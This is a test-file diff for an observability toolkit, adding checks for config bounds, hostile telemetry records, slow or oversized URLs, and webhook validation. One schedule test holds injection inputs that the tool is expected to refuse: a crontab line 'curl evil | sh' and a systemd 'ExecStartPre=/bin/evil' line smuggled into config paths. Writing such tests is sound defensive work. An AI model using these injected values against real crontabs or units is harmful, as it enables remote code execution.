@@ -92,6 +92,23 @@ CONFIG_CASES: dict[str, tuple[Callable[[str], str], str]] = {
     "secret-in-url-typo": (lambda t: t.replace('path = "reference.parquet"',
                                                f'path = "http://alice:{SECRET}@127.0.0.1:9/r.parquet"\nfomat = "x"'),
                            "unknown key 'fomat'"),
+    # bounds (obskit.limits): one line naming the key, before a kernel starts
+    "rule-window-overflows": (lambda t: t.replace('window = "10m"', 'window = "99999999999d"', 1),
+                              "alert rule 'high-error-rate': window: duration '99999999999d' is longer than the "
+                              "longest period, 400d"),
+    "rule-interval-1ms": (lambda t: t.replace('interval = "1m"', 'interval = "1ms"', 1),
+                          "alert rule 'high-error-rate': interval: '1ms' is shorter than the shortest window, 1s"),
+    "report-window-500ms": (lambda t: t.replace('window = "5m"                    # aggregation',
+                                                'window = "500ms"  # aggregation'),
+                            "report.window: '500ms' is shorter than the shortest window, 1s"),
+    "slo-window-huge": (lambda t: t.replace('window = "5m"\n\n[business]', 'window = "401d"\n\n[business]'),
+                        "slo.window: duration '401d' is longer than the longest period, 400d"),
+    "timezone-unknown": (lambda t: t.replace('timezone = "UTC"                 # assumed',
+                                             'timezone = "Mars/Olympus"  # assumed'),
+                         "project.timezone: unknown timezone 'Mars/Olympus'"),
+    "source-timezone-unknown": (lambda t: t.replace('timezone = "UTC"                 # nvidia-smi',
+                                                    'timezone = "Europe/Atlantis"  # nvidia-smi'),
+                                "sources.gpu.timezone: unknown timezone 'Europe/Atlantis'"),
 }
 
 
@@ -120,6 +137,16 @@ ARG_CASES: dict[str, tuple[list[str], str]] = {
     "param-window": (["-p", "window=abc"], "parameter 'window'"),
     "last-and-start": (["--last", "24h", "--start", "2026-11-22T00:00:00Z"], "--last cannot be combined"),
     "last-bad": (["--last", "a while"], "--last"),
+    # bounds (obskit.limits)
+    "last-100000w": (["--last", "100000w"], "--last: duration '100000w' is longer than the longest period, 400d"),
+    "last-overflows": (["--last", "99999999999d"], "--last: duration '99999999999d' is longer than the longest"),
+    "start-before-year-1": (["--start", "0001-01-01T00:00:00+05:00"],
+                            "--start: invalid time '0001-01-01T00:00:00+05:00': out of range"),
+    "start-implausible": (["--start", "1900-01-01T00:00:00Z", "--end", "2026-01-01T00:00:00Z"],
+                          "--start/--end: start 1900-01-01T00:00:00+00:00 is outside the years 1990–2200"),
+    "period-too-long": (["--start", "2024-01-01T00:00:00Z", "--end", "2026-01-01T00:00:00Z"],
+                        "is longer than the longest period, 400d"),
+    "param-window-1ms": (["-p", "window=1ms"], "parameter 'window': '1ms' is shorter than the shortest window, 1s"),
 }
 
 
@@ -552,3 +579,259 @@ def test_a_prometheus_label_named_line_is_kept_apart() -> None:
 
     exp = parse_exposition(b'foo{line="a"} 1\nfoo{line="b"} 2\n', quarantine=Quarantine())
     assert exp.samples["label_line"].to_list() == ["a", "b"]
+
+
+# ----------------------------------------------------------------------------- hostile records, every loader
+# Each case: the file a loader reads, how many records load, how many are rejected, and the
+# reason of the rejection. loaded + rejected == records, always; never an exception.
+
+def _otlp(**span_over: Any) -> str:
+    span = {"traceId": "5b8efff798038103d269b633813fc60c", "spanId": "eee19b7ec3c1b174", "name": "POST /infer",
+            "kind": 2, "startTimeUnixNano": "1763805600000000000", "endTimeUnixNano": "1763805600012000000",
+            "attributes": [{"key": "model.name", "value": {"stringValue": "resnet50"}},
+                           {"key": "model.version", "value": {"stringValue": "v1"}},
+                           {"key": "http.response.status_code", "value": {"intValue": "200"}}], "status": {}}
+    span.update(span_over)
+    return json.dumps({"resourceSpans": [{"resource": {"attributes": []}, "scopeSpans": [{"spans": [span]}]}]})
+
+
+def _qr(*series: dict[str, Any]) -> str:
+    return json.dumps({"status": "success", "data": {"resultType": "matrix", "result": list(series)}})
+
+
+_T = 1_763_805_600  # 2025-11-22T10:00:00Z
+_SMI_HEAD = "timestamp, index, utilization.gpu [%], memory.used [MiB], memory.total [MiB], temperature.gpu\n"
+
+
+def _smi(*rows: str) -> str:
+    return _SMI_HEAD + "".join(r + "\n" for r in rows)
+
+
+_SMI_OK = "2025/11/22 10:00:00.000, 0, 50 %, 1000 MiB, 8192 MiB, 60"
+
+HOSTILE: dict[str, tuple[str, str, str, int, int, str]] = {
+    # name: (loader, file suffix, content, loaded, rejected, reason)
+    "jsonl-deep-line": ("requests", ".jsonl", json.dumps(_row(0)) + "\n" + '{"a":' * 100_000 + "\n"
+                        + json.dumps(_row(1)) + "\n", 2, 1, "nested deeper than 64 levels"),
+    "otlp-deep-line": ("otlp", ".jsonl", _otlp() + "\n" + "[" * 100_000 + "\n", 1, 1, "nested deeper than 64"),
+    "otlp-end-1e300": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(endTimeUnixNano=1e300) + "\n", 1, 1,
+                        "start or end time outside the years 1990–2200"),
+    "otlp-status-huge": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(attributes=[
+        {"key": "http.response.status_code", "value": {"intValue": "99999999999"}}]) + "\n", 1, 1,
+        "status code 99999999999 is not an HTTP or gRPC code"),
+    "otlp-start-year-9999": ("otlp", ".jsonl", _otlp() + "\n" + _otlp(
+        startTimeUnixNano="253402300799000000000", endTimeUnixNano="253402300799000000001") + "\n", 1, 1,
+        "outside the years 1990–2200"),
+    "otlp-spans-not-a-list": ("otlp", ".jsonl", _otlp() + "\n" + json.dumps(
+        {"resourceSpans": [{"scopeSpans": [{"spans": 5}]}]}) + "\n", 1, 1, "spans is not a list of objects"),
+    "query-range-ts-1e300": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
+        [_T, "1"], [1e300, "1"], [_T + 15, "1"]]}), 2, 1, "outside the years 1990–2200"),
+    "query-range-year-1": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
+        [_T, "1"], [-62135596800, "1"]]}), 1, 1, "outside the years 1990–2200"),
+    "query-range-year-3000": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
+        [_T, "1"], [32503680000, "1"]]}), 1, 1, "outside the years 1990–2200"),
+    "query-range-duplicate-ts": ("prometheus_json", ".json", _qr({"metric": {"__name__": "up"}, "values": [
+        [_T, "1"], [_T, "2"], [_T + 15, "1"]]}), 2, 1, "duplicate timestamp"),
+    "query-range-null-label": ("prometheus_json", ".json", _qr(
+        {"metric": {"__name__": "up", "job": None}, "values": [[_T, "1"]]},
+        {"metric": {"__name__": "up", "job": "a"}, "values": [[_T, "1"]]}), 1, 1, "label 'job' is not a string"),
+    "query-range-object-label": ("prometheus_json", ".json", _qr(
+        {"metric": {"__name__": "up", "job": {"a": 1}}, "values": [[_T, "1"]]},
+        {"metric": {"__name__": "up", "job": "a"}, "values": [[_T, "1"]]}), 1, 1, "label 'job' is not a string"),
+    "scrape-ts-int64-max": ("prometheus_text", ".prom", "up 1 1763805600000\nup{a=\"b\"} 1 9223372036854775807\n",
+                            1, 1, "out of range"),
+    "gpu-utilization-150": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 150 %, 1000 MiB, "
+                                                      "8192 MiB, 60"), 1, 1, "outside the physical range"),
+    "gpu-memory-negative": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, -5 MiB, "
+                                                      "8192 MiB, 60"), 1, 1, "outside the physical range"),
+    "gpu-temperature-300-below": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, 10 MiB, "
+                                                            "8192 MiB, -300"), 1, 1, "outside the physical range"),
+    "gpu-used-over-total": ("nvidia_smi", ".csv", _smi(_SMI_OK, "2025/11/22 10:00:01.000, 0, 50 %, 9000 MiB, "
+                                                      "8192 MiB, 60"), 1, 1, "used"),
+    "gpu-year-9999": ("nvidia_smi", ".csv", _smi(_SMI_OK, "9999/11/22 10:00:01.000, 0, 50 %, 10 MiB, 8192 MiB, 60"),
+                      1, 1, "outside the years 1990–2200"),
+    "gpu-four-years-later": ("nvidia_smi", ".csv", _smi(*[
+        f"2025/11/22 10:{i // 60:02d}:{i % 60:02d}.000, 0, 50 %, 10 MiB, 8192 MiB, 60" for i in range(150)],
+        "2029/11/22 10:00:00.000, 0, 50 %, 10 MiB, 8192 MiB, 60"), 150, 1, "far outside the rest"),
+    "dmon-utilization-150": ("dmon", ".txt", "# gpu    pwr  gtemp  mtemp     sm    mem\n"
+                             "# Idx      W      C      C      %      %\n"
+                             "    0     69     41     47     10      0\n    0     69     41     47    150      0\n",
+                             1, 1, "outside the physical range"),
+}
+
+
+def _load_hostile(loader: str, path: Path, q: Quarantine) -> int:
+    from obskit.load.gpu import load_dmon, load_nvidia_smi
+    from obskit.load.otel import load_otlp_spans
+    from obskit.load.prometheus_api import load_prometheus_json
+
+    if loader == "requests":
+        return load_requests(path, columns=MAP, status_convention="http", quarantine=q).height
+    if loader == "otlp":
+        return load_otlp_spans(path, quarantine=q).height
+    if loader == "prometheus_json":
+        return load_prometheus_json(path, quarantine=q).height
+    if loader == "prometheus_text":
+        return load_prometheus_text(path, quarantine=q).height
+    if loader == "nvidia_smi":
+        return load_nvidia_smi(path, quarantine=q).height
+    return load_dmon(path, quarantine=q, start=datetime(2025, 11, 22, 10, tzinfo=UTC)).height
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_a_hostile_record_is_one_counted_rejection(case: str, tmp_path: Path) -> None:
+    loader, suffix, content, loaded, rejected, reason = HOSTILE[case]
+    path = tmp_path / f"{case}{suffix}"
+    path.write_text(content, encoding="utf-8")
+    q = Quarantine()
+    assert _load_hostile(loader, path, q) == loaded, q.frame()
+    assert q.count == rejected, q.frame()
+    assert reason in " ".join(q.frame()["reason"].to_list()), q.frame()
+
+
+def test_a_deep_query_range_file_is_a_parse_error_naming_it(tmp_path: Path) -> None:
+    from obskit.errors import ParseError
+    from obskit.load.prometheus_api import load_prometheus_json
+
+    path = tmp_path / "deep.json"
+    path.write_text('{"status": "success", "data": ' + "[" * 200_000 + "]" * 200_000 + "}")
+    with pytest.raises(ParseError, match=r"deep\.json: invalid JSON: nested deeper than 64 levels"):
+        load_prometheus_json(path)
+
+
+def test_a_deep_trace_event_is_rejected_and_the_others_load(tmp_path: Path) -> None:
+    from obskit.load.traces import load_torch_trace
+
+    ev = {"ph": "X", "cat": "kernel", "name": "k", "pid": 0, "tid": 7, "ts": 1_763_805_600_000_000, "dur": 5,
+          "args": {"device": 0, "stream": 7}}
+    deep = '{"ph": "X", "args": ' + '{"a": ' * 5_000 + "1" + "}" * 5_000 + "}"
+    path = tmp_path / "trace.json"
+    path.write_text('{"traceEvents": [' + json.dumps(ev) + ", " + deep + ", " + json.dumps(ev) + "]}")
+    q = Quarantine()
+    assert load_torch_trace(path, quarantine=q).height == 2
+    assert q.frame()["reason"].to_list() == ["traceEvents[1]: nested deeper than 64 levels"]
+
+
+# ----------------------------------------------------------------------------- URLs: a deadline and a size
+
+
+@pytest.fixture()
+def slow_server() -> Iterator[str]:
+    """Loopback server: /trickle sends a byte every 0.2 s (each read is quick), /big sends 3 MB."""
+    import time
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.end_headers()
+            if self.path.startswith("/big"):
+                self.wfile.write(b"x" * 3_000_000)
+                return
+            for _ in range(60):  # at most 12 s, then it ends by itself
+                try:
+                    self.wfile.write(b"x")
+                    self.wfile.flush()
+                except OSError:
+                    return
+                time.sleep(0.2)
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+    finally:
+        server.shutdown()
+
+
+def test_a_trickling_server_meets_the_deadline_not_a_per_read_timeout(slow_server: str,
+                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    import time
+
+    import obskit.limits
+    from obskit.errors import SourceError
+    from obskit.load._sources import resolve
+
+    monkeypatch.setattr(obskit.limits, "URL_DEADLINE_S", 1.0)
+    t0 = time.monotonic()
+    with pytest.raises(SourceError, match="not complete after"):
+        resolve(f"{slow_server}/trickle.jsonl", suffixes=(".jsonl",))
+    assert time.monotonic() - t0 < 8  # the socket timeout alone would never end it
+
+
+def test_a_response_over_the_size_limit_is_refused(slow_server: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    from obskit.errors import SourceError
+    from obskit.load._sources import resolve
+
+    monkeypatch.setattr("obskit.limits.URL_MAX_BYTES", 1 << 20)
+    with pytest.raises(SourceError, match="larger than 1 MiB"):
+        resolve(f"{slow_server}/big.jsonl", suffixes=(".jsonl",))
+
+
+# ----------------------------------------------------------------------------- staging, schedule, export, notify
+
+
+def test_staging_sees_a_same_size_rewrite_and_rebuilds_broken_metadata(tmp_path: Path) -> None:
+    import os
+
+    from obskit.load.registry import SourceConfig
+    from obskit.scale.staging import stage_requests
+
+    log = tmp_path / "day.jsonl"
+    log.write_text("".join(json.dumps(_row(i, latency_ms=10.0)) + "\n" for i in range(50)))
+    src = SourceConfig("requests", "requests", {"path": str(log), "columns": MAP, "status_convention": "http"})
+    first = stage_requests(src, tmp_path / "stage")
+    st = log.stat()
+    log.write_text("".join(json.dumps(_row(i, latency_ms=99.0)) + "\n" for i in range(50)))  # same size
+    os.utime(log, ns=(st.st_atime_ns, st.st_mtime_ns))
+    assert log.stat().st_size == st.st_size
+    second = stage_requests(src, tmp_path / "stage")
+    assert second.converted == 1
+    assert pl.read_parquet(second.files)["latency_ms"].unique().to_list() == [99.0]
+    metas = list((tmp_path / "stage").rglob("*.json"))
+    assert metas and first.converted == 1
+    for meta in metas:
+        meta.write_text('{"rows": 5')  # an interrupted write
+    third = stage_requests(src, tmp_path / "stage")
+    assert third.converted == 1 and third.rows == 50  # the current file's metadata, rebuilt
+
+
+@pytest.mark.parametrize(("args", "needle"), [
+    (["--config", "/tmp/a\n* * * * * curl evil | sh\n.toml"], "holds a control character"),
+    (["--config", "/tmp/a%b.toml"], "holds a control character, '%' or '$'"),
+    (["--systemd", "--config", "/tmp/a\nExecStartPre=/bin/evil\n.toml"], "holds a control character"),
+    (["--last", "a while"], "--last"),
+])
+def test_schedule_refuses_what_a_crontab_or_unit_cannot_carry(args: list[str], needle: str,
+                                                              capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["schedule", *args]) == 2
+    captured = capsys.readouterr()
+    assert needle in captured.err and captured.err.count("\n") == 1
+    assert "evil" not in captured.out
+
+
+def test_alerts_export_keeps_a_rules_match(tmp_path: Path, day: Path) -> None:
+    from obskit.alerts.export import prometheus_export
+    from obskit.config import load_config
+
+    cfg = _config(day, tmp_path, lambda t: t + (
+        '\n[[alerts]]\nname = "canary-errors"\nsignal = "error_rate"\ncomparison = ">"\nthreshold = 0.05\n'
+        'window = "5m"\nby = ["model_version"]\nmatch = { model_version = "v1.5.0" }\n'))
+    text = prometheus_export(load_config(cfg).alerts).yaml
+    block = text[text.index("canary-errors"):]
+    assert block.split("\n")[1].strip() == 'expr: "obskit:error_rate:by_version:5m{version=\\"v1.5.0\\"} > 0.05"'
+
+
+
+@pytest.mark.parametrize("url", ["ftp://hooks.example/x", "http://", "not a url", "http://h:99999/x"])
+def test_a_bad_webhook_is_refused_before_the_report_runs(url: str, samples_dir: Path, tmp_path: Path,
+                                                         monkeypatch: pytest.MonkeyPatch,
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    monkeypatch.setenv("OBSKIT_ALERT_WEBHOOK", url)
+    assert main(["report", "--config", str(samples_dir / "obskit.toml"), "--out", str(tmp_path / "r"),
+                 "--notify", "--fail-on-alert"]) == 2
+    err = capsys.readouterr().err
+    assert "webhook url must be an http(s) URL with a host" in err and err.count("\n") == 1
+    assert not (tmp_path / "r").exists()  # refused before the run
